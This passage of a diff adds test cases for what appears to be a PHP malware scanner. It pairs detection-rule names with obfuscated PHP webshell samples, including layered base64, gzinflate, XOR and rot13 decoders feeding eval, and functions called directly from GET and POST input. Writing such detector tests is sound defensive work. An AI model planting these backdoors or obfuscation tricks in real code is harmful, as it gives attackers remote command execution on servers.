tdUeDmcmuhVEaw7tWCcdLDgATqxb2W+zwtfZyWYVf1vLrRyiLTSWyuZa0PAgzNV5tFd9YJNIdG4sF96An5c+enYasmo2P+EbiegoJS1etiJS6OVGYoasSZ1tyWT3JQVbOpX4L4WHO9EGu+NBRPK3tOAlQrfDyLztGJ4aFzsitXKqg0I0tBleIUnVgN8jB38rgCYAsFI3nzLyJbUkg2dawhAqGu6HVjXNfhxMknEmrJY1ZHDpK0zxo7jihxxpCv842LSngW9Y8g64jRfAz27IXdPezR7dXAWyhaN8kNsFQWldsXlwsXuffEhIbW1Scl4DOxa436IrTGwnoFtM0c2ewEnU0Ou16mWY8bZLgRH+kraXkgFK72gyCUZyik5tOgACCucpDXR5ozlU5sfvc0smoYQS4K6SUin6kMkioYaDgt79FbzRCEkheUsnCxFpYFNuy32zdxBhBs7bqxv8lnRpKvMR7U4k5/6EPELxMggLU8ldLNM5v00uEw6ks42HIw6Q1DpEKZQbTg6xdyviNcmxeIbtFQHPR+ui3Mz/tbArI9Mmsl+E9uA9HjSzlRDgGsIVOPRlAP0Ylw7QlbWZQmteiL9MGAHDnwfGotBpY8dLpCwT6sLxw2OsQVHYZuMpXfQ3b7GT1rS44jJYjI4eiYqmLJCqOXWeuCi72UuClP7STgawEYWQmNjw8XpEISWFPpNyN2iO7PWqPRACjRVml8t4tBa2jCqDNQa26BzfmOzXIPsUx/HPZueWHOcsQx1rIAG+EXnkux8OZtBi/fnWdv09j8lYRk5HhBQFNezQq59BU2cy8ThIzTtxhopbsee2sXsxgOP69TqCIUsQ99jNvi9kZlWHm75Sf/g1ySb+QN8LjXJNlUYSyPSRmGei5auNt8JCeySrz3EMwfeHi6fDbt+CszG8o9gX2KRhc+OlQNAi0TWuV+o0XzLYXLNl2F+CANP9snqt7f72/vzf/3t7y+///Fnekp/DSaVXo6U/weRRJM4'; }\neval(gzuncompress(base64_decode(Cfg::D)));\n"
+        ),
+        True,
+    ),
+    # d:blob_class_const
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        padded(
+            "<?php\nclass Cfg { const D = 'eNptV11r5UYM/StmuA82GIP9OnXpS9k/0LdSih2ybHG7gSQLuZj57z06kmbkmyUm1/aMPkY6OpJvR/fP1+52dM9P3166tx/72/tr363d9tbdPrrbLqtcKt3t3snK0n19eX3enr7J6o3i/qLHIgRzd9u6FBeg9N/n771sh5ahe31+//H6HcqyvILIhJeFRjfZoUpkp3s0irrUnWJ0xRN9mk2ux5+phJDdDaYIAnaYo/tlf/0VPro7rrxKuL9JpBa8mESQtgaYpbgL00euuxQPrxZ7+HYGhRLjO9ymBolhwcMU4p0gIiYGvMfOjJuEbRP0wMIi7zwTuE0SHnNskgVcUwwDnkuInd/BOfMBShBqZmTSWIs/TLEaYeZNGyXsfpSkPMSvPnua74qgGtfSMm43Lqog4yHhj4fLk/mhB8EvXZgNLRmxzQyWxDgTBQueT3hnoqdIPvqXVc2kKuGlHvWAKHbTickVSPYVOhOB3pzDrur9nRmqNiWqO7RL8gjnIZRLghnIFrjBPAzqjabjMAw0cMKjBv+WC8JaozXANDQVMXwwAFnQs0PR6EXrcduZ31p5GduT6kj4c5uTitkmd3wlmGcx/dH18fxFg6N1Ud8lHnsQpzOTr+Ct6NjUStKfEZtytTV0dnJYkRRjs5RKYc5PtUSw48SZB11DmEK4COUUmSeRKYoo3WXZN7tpFpLUEGJ6VsEHSI7Xw4pXkxbOqX63ms+hGANlElGNMUf41YhgFk0t7vREdML9QjoS5ijy6BInk6CeEFZFU1QtbmK0qTwZBzpLqK6ibtdUeDmcmuhVEaw7tWCcdLDgATqxb2W+zwtfZyWYVf1vLrRyiLTSWyuZa0PAgzNV5tFd9YJNIdG4sF96An5c+enYasmo2P+EbiegoJS1etiJS6OVGYoasSZ1tyWT3JQVbOpX4L4WHO9EGu+NBRPK3tOAlQrfDyLztGJ4aFzsitXKqg0I0tBleIUnVgN8jB38rgCYAsFI3nzLyJbUkg2dawhAqGu6HVjXNfhxMknEmrJY1ZHDpK0zxo7jihxxpCv842LSngW9Y8g64jRfAz27IXdPezR7dXAWyhaN8kNsFQWldsXlwsXuffEhIbW1Scl4DOxa436IrTGwnoFtM0c2ewEnU0Ou16mWY8bZLgRH+kraXkgFK72gyCUZyik5tOgACCucpDXR5ozlU5sfvc0smoYQS4K6SUin6kMkioYaDgt79FbzRCEkheUsnCxFpYFNuy32zdxBhBs7bqxv8lnRpKvMR7U4k5/6EPELxMggLU8ldLNM5v00uEw6ks42HIw6Q1DpEKZQbTg6xdyviNcmxeIbtFQHPR+ui3Mz/tbArI9Mmsl+E9uA9HjSzlRDgGsIVOPRlAP0Ylw7QlbWZQmteiL9MGAHDnwfGotBpY8dLpCwT6sLxw2OsQVHYZuMpXfQ3b7GT1rS44jJYjI4eiYqmLJCqOXWeuCi72UuClP7STgawEYWQmNjw8XpEISWFPpNyN2iO7PWqPRACjRVml8t4tBa2jCqDNQa26BzfmOzXIPsUx/HPZueWHOcsQx1rIAG+EXnkux8OZtBi/fnWdv09j8lYRk5HhBQFNezQq59BU2cy8ThIzTtxhopbsee2sXsxgOP69TqCIUsQ99jNvi9kZlWHm75Sf/g1ySb+QN8LjXJNlUYSyPSRmGei5auNt8JCeySrz3EMwfeHi6fDbt+CszG8o9gX2KRhc+OlQNAi0TWuV+o0XzLYXLNl2F+CANP9snqt7f72/vzf/3t7y+///Fnekp/DSaVXo6U/weRRJM4'; }\neval(gzuncompress(base64_decode(Cfg::D)));\n"
+        ),
+        True,
+    ),
+    # d:blob_class_const
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        embedded(
+            "<?php\nclass Cfg { const D = 'eNptV11r5UYM/StmuA82GIP9OnXpS9k/0LdSih2ybHG7gSQLuZj57z06kmbkmyUm1/aMPkY6OpJvR/fP1+52dM9P3166tx/72/tr363d9tbdPrrbLqtcKt3t3snK0n19eX3enr7J6o3i/qLHIgRzd9u6FBeg9N/n771sh5ahe31+//H6HcqyvILIhJeFRjfZoUpkp3s0irrUnWJ0xRN9mk2ux5+phJDdDaYIAnaYo/tlf/0VPro7rrxKuL9JpBa8mESQtgaYpbgL00euuxQPrxZ7+HYGhRLjO9ymBolhwcMU4p0gIiYGvMfOjJuEbRP0wMIi7zwTuE0SHnNskgVcUwwDnkuInd/BOfMBShBqZmTSWIs/TLEaYeZNGyXsfpSkPMSvPnua74qgGtfSMm43Lqog4yHhj4fLk/mhB8EvXZgNLRmxzQyWxDgTBQueT3hnoqdIPvqXVc2kKuGlHvWAKHbTickVSPYVOhOB3pzDrur9nRmqNiWqO7RL8gjnIZRLghnIFrjBPAzqjabjMAw0cMKjBv+WC8JaozXANDQVMXwwAFnQs0PR6EXrcduZ31p5GduT6kj4c5uTitkmd3wlmGcx/dH18fxFg6N1Ud8lHnsQpzOTr+Ct6NjUStKfEZtytTV0dnJYkRRjs5RKYc5PtUSw48SZB11DmEK4COUUmSeRKYoo3WXZN7tpFpLUEGJ6VsEHSI7Xw4pXkxbOqX63ms+hGANlElGNMUf41YhgFk0t7vREdML9QjoS5ijy6BInk6CeEFZFU1QtbmK0qTwZBzpLqK6ibtdUeDmcmuhVEaw7tWCcdLDgATqxb2W+zwtfZyWYVf1vLrRyiLTSWyuZa0PAgzNV5tFd9YJNIdG4sF96An5c+enYasmo2P+EbiegoJS1etiJS6OVGYoasSZ1tyWT3JQVbOpX4L4WHO9EGu+NBRPK3tOAlQrfDyLztGJ4aFzsitXKqg0I0tBleIUnVgN8jB38rgCYAsFI3nzLyJbUkg2dawhAqGu6HVjXNfhxMknEmrJY1ZHDpK0zxo7jihxxpCv842LSngW9Y8g64jRfAz27IXdPezR7dXAWyhaN8kNsFQWldsXlwsXuffEhIbW1Scl4DOxa436IrTGwnoFtM0c2ewEnU0Ou16mWY8bZLgRH+kraXkgFK72gyCUZyik5tOgACCucpDXR5ozlU5sfvc0smoYQS4K6SUin6kMkioYaDgt79FbzRCEkheUsnCxFpYFNuy32zdxBhBs7bqxv8lnRpKvMR7U4k5/6EPELxMggLU8ldLNM5v00uEw6ks42HIw6Q1DpEKZQbTg6xdyviNcmxeIbtFQHPR+ui3Mz/tbArI9Mmsl+E9uA9HjSzlRDgGsIVOPRlAP0Ylw7QlbWZQmteiL9MGAHDnwfGotBpY8dLpCwT6sLxw2OsQVHYZuMpXfQ3b7GT1rS44jJYjI4eiYqmLJCqOXWeuCi72UuClP7STgawEYWQmNjw8XpEISWFPpNyN2iO7PWqPRACjRVml8t4tBa2jCqDNQa26BzfmOzXIPsUx/HPZueWHOcsQx1rIAG+EXnkux8OZtBi/fnWdv09j8lYRk5HhBQFNezQq59BU2cy8ThIzTtxhopbsee2sXsxgOP69TqCIUsQ99jNvi9kZlWHm75Sf/g1ySb+QN8LjXJNlUYSyPSRmGei5auNt8JCeySrz3EMwfeHi6fDbt+CszG8o9gX2KRhc+OlQNAi0TWuV+o0XzLYXLNl2F+CANP9snqt7f72/vzf/3t7y+///Fnekp/DSaVXo6U/weRRJM4'; }\neval(gzuncompress(base64_decode(Cfg::D)));\n"
+        ),
+        True,
+    ),
+    # d:globals_decoders
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        plain(
+            "<?php\n$GLOBALS['x1'] = 'base64_decode';\n$GLOBALS['x2'] = 'gzinflate';\neval($GLOBALS['x2']($GLOBALS['x1']('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')));\n"
+        ),
+        True,
+    ),
+    # d:globals_decoders
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        padded(
+            "<?php\n$GLOBALS['x1'] = 'base64_decode';\n$GLOBALS['x2'] = 'gzinflate';\neval($GLOBALS['x2']($GLOBALS['x1']('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')));\n"
+        ),
+        True,
+    ),
+    # d:globals_decoders
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        embedded(
+            "<?php\n$GLOBALS['x1'] = 'base64_decode';\n$GLOBALS['x2'] = 'gzinflate';\neval($GLOBALS['x2']($GLOBALS['x1']('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')));\n"
+        ),
+        True,
+    ),
+    # d:array_decoders
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        plain(
+            "<?php\n$a = array('base64_decode', 'gzinflate');\neval($a[1]($a[0]('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')));\n"
+        ),
+        True,
+    ),
+    # d:array_decoders
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        padded(
+            "<?php\n$a = array('base64_decode', 'gzinflate');\neval($a[1]($a[0]('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')));\n"
+        ),
+        True,
+    ),
+    # d:array_decoders
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        embedded(
+            "<?php\n$a = array('base64_decode', 'gzinflate');\neval($a[1]($a[0]('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')));\n"
+        ),
+        True,
+    ),
+    # d:cuf_decoder
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        plain(
+            "<?php eval(call_user_func('base64_decode', 'QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\n"
+        ),
+        True,
+    ),
+    # d:cuf_decoder
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        padded(
+            "<?php eval(call_user_func('base64_decode', 'QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\n"
+        ),
+        True,
+    ),
+    # d:cuf_decoder
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        embedded(
+            "<?php eval(call_user_func('base64_decode', 'QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\n"
+        ),
+        True,
+    ),
+    # d:cufa_gz
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        plain(
+            "<?php eval(call_user_func_array('gzinflate', array(base64_decode('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA'))));\n"
+        ),
+        True,
+    ),
+    # d:cufa_gz
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        padded(
+            "<?php eval(call_user_func_array('gzinflate', array(base64_decode('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA'))));\n"
+        ),
+        True,
+    ),
+    # d:cufa_gz
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        embedded(
+            "<?php eval(call_user_func_array('gzinflate', array(base64_decode('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA'))));\n"
+        ),
+        True,
+    ),
+    # d:vars_create_fn
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        plain(
+            "<?php\n$d = 'gzinflate'; $e = 'base64_decode';\n$code = $d($e('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA'));\n$fn = create_function('', $code);\n$fn();\n"
+        ),
+        True,
+    ),
+    # d:vars_create_fn
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        padded(
+            "<?php\n$d = 'gzinflate'; $e = 'base64_decode';\n$code = $d($e('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA'));\n$fn = create_function('', $code);\n$fn();\n"
+        ),
+        True,
+    ),
+    # d:vars_create_fn
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        embedded(
+            "<?php\n$d = 'gzinflate'; $e = 'base64_decode';\n$code = $d($e('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA'));\n$fn = create_function('', $code);\n$fn();\n"
+        ),
+        True,
+    ),
+    # d:urlsafe_b64
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        plain(
+            "<?php @eval(gzinflate(base64_decode(str_replace(array('-', '_'), array('+', '/'), 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA'))));\n"
+        ),
+        True,
+    ),
+    # d:urlsafe_b64
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        padded(
+            "<?php @eval(gzinflate(base64_decode(str_replace(array('-', '_'), array('+', '/'), 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA'))));\n"
+        ),
+        True,
+    ),
+    # d:urlsafe_b64
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        embedded(
+            "<?php @eval(gzinflate(base64_decode(str_replace(array('-', '_'), array('+', '/'), 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA'))));\n"
+        ),
+        True,
+    ),
+    # d:rev_rot_gz
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        plain(
+            "<?php eval(gzinflate(base64_decode(strrev(str_rot13('NLtfJ9flDqSlB3RFJEo1XnyFJyLQ3qKvDIqmW5PYhvlp')))));\n"
+        ),
+        True,
+    ),
+    # d:rev_rot_gz
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        padded(
+            "<?php eval(gzinflate(base64_decode(strrev(str_rot13('NLtfJ9flDqSlB3RFJEo1XnyFJyLQ3qKvDIqmW5PYhvlp')))));\n"
+        ),
+        True,
+    ),
+    # d:rev_rot_gz
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        embedded(
+            "<?php eval(gzinflate(base64_decode(strrev(str_rot13('NLtfJ9flDqSlB3RFJEo1XnyFJyLQ3qKvDIqmW5PYhvlp')))));\n"
+        ),
+        True,
+    ),
+    # d:eval_in_eval
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        plain(
+            "<?php eval(\"\\$x = base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='); eval(\\$x);\");\n"
+        ),
+        True,
+    ),
+    # d:eval_in_eval
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        padded(
+            "<?php eval(\"\\$x = base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='); eval(\\$x);\");\n"
+        ),
+        True,
+    ),
+    # d:eval_in_eval
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        embedded(
+            "<?php eval(\"\\$x = base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='); eval(\\$x);\");\n"
+        ),
+        True,
+    ),
+    # d:xor_loop_eval
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        plain(
+            "<?php\n$x = base64_decode('R3R+dHNiai8jWEBCU1wlZCVaLjwnYmRvaCclaGwlPA==');\n$y = '';\nfor ($i = 0; $i < strlen($x); $i++) { $y .= chr(ord($x[$i]) ^ 7); }\neval($y);\n"
+        ),
+        True,
+    ),
+    # d:xor_loop_eval
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        padded(
+            "<?php\n$x = base64_decode('R3R+dHNiai8jWEBCU1wlZCVaLjwnYmRvaCclaGwlPA==');\n$y = '';\nfor ($i = 0; $i < strlen($x); $i++) { $y .= chr(ord($x[$i]) ^ 7); }\neval($y);\n"
+        ),
+        True,
+    ),
+    # d:xor_loop_eval
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        embedded(
+            "<?php\n$x = base64_decode('R3R+dHNiai8jWEBCU1wlZCVaLjwnYmRvaCclaGwlPA==');\n$y = '';\nfor ($i = 0; $i < strlen($x); $i++) { $y .= chr(ord($x[$i]) ^ 7); }\neval($y);\n"
+        ),
+        True,
+    ),
+    # d:xor_key_loop_eval
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        plain(
+            "<?php\n$k = 'secret';\n$s = base64_decode('MxYaARERHk1HLSIxJz5BEUcpWl5DFwYcHEVBHQ5WSA==');\n$o = '';\nfor ($i = 0; $i < strlen($s); $i++) $o .= $s[$i] ^ $k[$i % strlen($k)];\neval($o);\n"
+        ),
+        True,
+    ),
+    # d:xor_key_loop_eval
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        padded(
+            "<?php\n$k = 'secret';\n$s = base64_decode('MxYaARERHk1HLSIxJz5BEUcpWl5DFwYcHEVBHQ5WSA==');\n$o = '';\nfor ($i = 0; $i < strlen($s); $i++) $o .= $s[$i] ^ $k[$i % strlen($k)];\neval($o);\n"
+        ),
+        True,
+    ),
+    # d:xor_key_loop_eval
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        embedded(
+            "<?php\n$k = 'secret';\n$s = base64_decode('MxYaARERHk1HLSIxJz5BEUcpWl5DFwYcHEVBHQ5WSA==');\n$o = '';\nfor ($i = 0; $i < strlen($s); $i++) $o .= $s[$i] ^ $k[$i % strlen($k)];\neval($o);\n"
+        ),
+        True,
+    ),
+    # d:openssl_eval
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        plain(
+            "<?php eval(openssl_decrypt(base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='), 'AES-128-CBC', 'k3y', OPENSSL_RAW_DATA, '1234567890123456'));\n"
+        ),
+        True,
+    ),
+    # d:openssl_eval
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        padded(
+            "<?php eval(openssl_decrypt(base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='), 'AES-128-CBC', 'k3y', OPENSSL_RAW_DATA, '1234567890123456'));\n"
+        ),
+        True,
+    ),
+    # d:openssl_eval
+    (
+        "SPAMGEAR_OBFUSC_EvalIndirectDecoder",
+        embedded(
+            "<?php eval(openssl_decrypt(base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='), 'AES-128-CBC', 'k3y', OPENSSL_RAW_DATA, '1234567890123456'));\n"
+        ),
+        True,
+    ),
+    # d:assert_globals
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        plain("<?php\n$GLOBALS['_x'] = $_POST['p'];\nassert(gzinflate(base64_decode($GLOBALS['_x'])));\n"),
+        True,
+    ),
+    # d:assert_globals
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        padded("<?php\n$GLOBALS['_x'] = $_POST['p'];\nassert(gzinflate(base64_decode($GLOBALS['_x'])));\n"),
+        True,
+    ),
+    # d:assert_globals
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        embedded("<?php\n$GLOBALS['_x'] = $_POST['p'];\nassert(gzinflate(base64_decode($GLOBALS['_x'])));\n"),
+        True,
+    ),
+    # d:superglobal_alias_call
+    ("SPAMGEAR_EVASION_CopiedInputElementCall", plain("<?php\n$f = $_GET;\n$f['a']($f['b']);\n"), True),
+    # d:superglobal_alias_call
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php\n$f = $_GET;\n$f['a']($f['b']);\n"), True),
+    # d:superglobal_alias_call
+    ("SPAMGEAR_INPUT_AdjacentInputToSink", embedded("<?php\n$f = $_GET;\n$f['a']($f['b']);\n"), True),
+    # d:junk_replace_curly_input
+    (
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        plain("<?php\n$x = str_replace('#', '', 'a#s#s#e#r#t');\n$x(${'_P'.'OST'}['z']);\n"),
+        True,
+    ),
+    # d:junk_replace_curly_input
+    (
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        padded("<?php\n$x = str_replace('#', '', 'a#s#s#e#r#t');\n$x(${'_P'.'OST'}['z']);\n"),
+        True,
+    ),
+    # d:junk_replace_curly_input
+    (
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        embedded("<?php\n$x = str_replace('#', '', 'a#s#s#e#r#t');\n$x(${'_P'.'OST'}['z']);\n"),
+        True,
+    ),
+    # d:heredoc_b64
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        plain(
+            "<?php\n$code = <<<EOT\nZVfbiuNIDP0VU/SDCwqD69XtYV+W+YF5W5bFbjLMkN1pSHrAwfjfVzqSSnKahDgu6345kl/X25fuZcX30U3dy9LdLh+/b7+6Yn9+fu9m/rm8/XjvXq5088pMY7fcu565lI5EFOYnkkyfsbt/3P69/OrptHT33yvdEvlG/MqgF8jNLM2I7Ao9c1fpM5JtSs/CJzYIPKSNTKBvafrG7vv77bK8/eh2psjtwSS6ZqIgY0nCQVwz00ATS1v4a+x2naBlY0nmxpVch3RIHINOtfJkwsz6EvGDeqJ7dXrw0xGOmanGnowSHpIN+1P02LIr60iIwzXI8IiQ9h3acsidPcRJJgJilkDX9syue4zFQ1hAflKolUGBfdWysidwQg4fZ+10jzpK7FwlRRbiGTVE8hN8XOjaePimpexKaTyIuDYbkSp7rvGbWdPBNjV/MxOaOpAVtr1AcR8KGBxQ2/Lf2iRJUoiPvoj0QB/6T6rNnsq6/WZgKo6ydBS3nfgBPRKlJQZ8I1tqSCfnwyOahaBXMSt8O5qpyOwaS4EN7PFrNKOI61mAyCCR9Nt8ZI0zW9Wi/mjMSJ83bevSgU1fBT5qTDmXmObHnBykG0kBx34mbV57ZEoRKWrmHhNNDwaO3cTsqCUWjv40AXTGzVU4V6u28sBReaDIDNdGAJUAmDfg0WoZkUvNz2YDN6bd5FMB06OdPoOqWKWNjXZkXSMyB5RqAlfj2FsrEcEQgjU0PJ7aqXl7CDjCOUEEYt6D1mA4RDS8zwjTHNx5hoEBZRt8oEgmEzBofFeIEURu9RVywaW1BSWDCYC7I4pzD90Odyod7KeaHdCPDZ+ySSENhY3c3IvGYfrp9xDnnz21lsw+phz1Sxh13n96NgKESHgca7NAv5fZGgZDG3cRZupnfDcOzgyKYz43DzCYfkQD11RoTQNdO1KAm6RrUpzfG0A0B+QxpiSaOQIopipNBpiYJNUJ7nO2Aoo9BNHVvxgYszVLqXDWAwbiAWo+C4jgtLQV5ZQ6HMvg5ib3AQfcqzJEgLizQKT5u9BBipDOrajLQcYAQLSj2QfdF0WRZEdZRkAKU8Gd1sQLsAJ+xVQEjZKxS99sEaCTFndD8EpaFLoDSjyvS1Xga/bSJStLSGjWca30vaQ8w5ztUzlmgdXYxTnESxtoMBwyOKmCtxWeVdnTSLoOmB6eJInuAwIZDxainmxUZxuNB3nisJbPs1oRcgqrkk/IBL+zTS2Uae+5rOI0p5/sS4ivlN9MRGMA/8P6OAetYZvBMNHtxbhaE1jLnzs6STEa0uwBCB1nwe8Dc8BEtEYg0w+jCXi+6A4p5V5jRWXZ1L01vQcmPESofbklWs5VPq99SXYc5Y2R161ib15hKythDUkYLwGneUYtQicLPEWQvQqVyPUzi2Lfnj7N32sA3VEimkXOJJM+cpNKSnTt2nhGjTus+xDJjkYcPxu4blsGHtK550/R5xDQ0v2CHcVYBKBhlqHyGZRbguunzb8B+oZ2acNI3lLcDGw8yVbB2ub/KlqewPfEl63NOBGr4rlPA5Jy6rhJFm+r6t1t0scadu2sKhXrNV0EcQ6prjEA+BwJi5ZxQeqw3yWILr5pTKEw4UjD3fT8AqYAN52QJIfS7r0xi4A4yGN9PcIrziDydt0jEPfJwu/OzjJgB+1Gn2FV3jgDCK8izGMf3o1GGW9ZoPx5W5EtvUqh20gtbVktCmq8G+c/7o/7x+W//uWfr39++yu9pb+zglB6v6bpfw==\nEOT;\neval(gzinflate(base64_decode($code)));\n"
+        ),
+        True,
+    ),
+    # d:heredoc_b64
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        padded(
+            "<?php\n$code = <<<EOT\nZVfbiuNIDP0VU/SDCwqD69XtYV+W+YF5W5bFbjLMkN1pSHrAwfjfVzqSSnKahDgu6345kl/X25fuZcX30U3dy9LdLh+/b7+6Yn9+fu9m/rm8/XjvXq5088pMY7fcu565lI5EFOYnkkyfsbt/3P69/OrptHT33yvdEvlG/MqgF8jNLM2I7Ao9c1fpM5JtSs/CJzYIPKSNTKBvafrG7vv77bK8/eh2psjtwSS6ZqIgY0nCQVwz00ATS1v4a+x2naBlY0nmxpVch3RIHINOtfJkwsz6EvGDeqJ7dXrw0xGOmanGnowSHpIN+1P02LIr60iIwzXI8IiQ9h3acsidPcRJJgJilkDX9syue4zFQ1hAflKolUGBfdWysidwQg4fZ+10jzpK7FwlRRbiGTVE8hN8XOjaePimpexKaTyIuDYbkSp7rvGbWdPBNjV/MxOaOpAVtr1AcR8KGBxQ2/Lf2iRJUoiPvoj0QB/6T6rNnsq6/WZgKo6ydBS3nfgBPRKlJQZ8I1tqSCfnwyOahaBXMSt8O5qpyOwaS4EN7PFrNKOI61mAyCCR9Nt8ZI0zW9Wi/mjMSJ83bevSgU1fBT5qTDmXmObHnBykG0kBx34mbV57ZEoRKWrmHhNNDwaO3cTsqCUWjv40AXTGzVU4V6u28sBReaDIDNdGAJUAmDfg0WoZkUvNz2YDN6bd5FMB06OdPoOqWKWNjXZkXSMyB5RqAlfj2FsrEcEQgjU0PJ7aqXl7CDjCOUEEYt6D1mA4RDS8zwjTHNx5hoEBZRt8oEgmEzBofFeIEURu9RVywaW1BSWDCYC7I4pzD90Odyod7KeaHdCPDZ+ySSENhY3c3IvGYfrp9xDnnz21lsw+phz1Sxh13n96NgKESHgca7NAv5fZGgZDG3cRZupnfDcOzgyKYz43DzCYfkQD11RoTQNdO1KAm6RrUpzfG0A0B+QxpiSaOQIopipNBpiYJNUJ7nO2Aoo9BNHVvxgYszVLqXDWAwbiAWo+C4jgtLQV5ZQ6HMvg5ib3AQfcqzJEgLizQKT5u9BBipDOrajLQcYAQLSj2QfdF0WRZEdZRkAKU8Gd1sQLsAJ+xVQEjZKxS99sEaCTFndD8EpaFLoDSjyvS1Xga/bSJStLSGjWca30vaQ8w5ztUzlmgdXYxTnESxtoMBwyOKmCtxWeVdnTSLoOmB6eJInuAwIZDxainmxUZxuNB3nisJbPs1oRcgqrkk/IBL+zTS2Uae+5rOI0p5/sS4ivlN9MRGMA/8P6OAetYZvBMNHtxbhaE1jLnzs6STEa0uwBCB1nwe8Dc8BEtEYg0w+jCXi+6A4p5V5jRWXZ1L01vQcmPESofbklWs5VPq99SXYc5Y2R161ib15hKythDUkYLwGneUYtQicLPEWQvQqVyPUzi2Lfnj7N32sA3VEimkXOJJM+cpNKSnTt2nhGjTus+xDJjkYcPxu4blsGHtK550/R5xDQ0v2CHcVYBKBhlqHyGZRbguunzb8B+oZ2acNI3lLcDGw8yVbB2ub/KlqewPfEl63NOBGr4rlPA5Jy6rhJFm+r6t1t0scadu2sKhXrNV0EcQ6prjEA+BwJi5ZxQeqw3yWILr5pTKEw4UjD3fT8AqYAN52QJIfS7r0xi4A4yGN9PcIrziDydt0jEPfJwu/OzjJgB+1Gn2FV3jgDCK8izGMf3o1GGW9ZoPx5W5EtvUqh20gtbVktCmq8G+c/7o/7x+W//uWfr39++yu9pb+zglB6v6bpfw==\nEOT;\neval(gzinflate(base64_decode($code)));\n"
+        ),
+        True,
+    ),
+    # d:heredoc_b64
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        embedded(
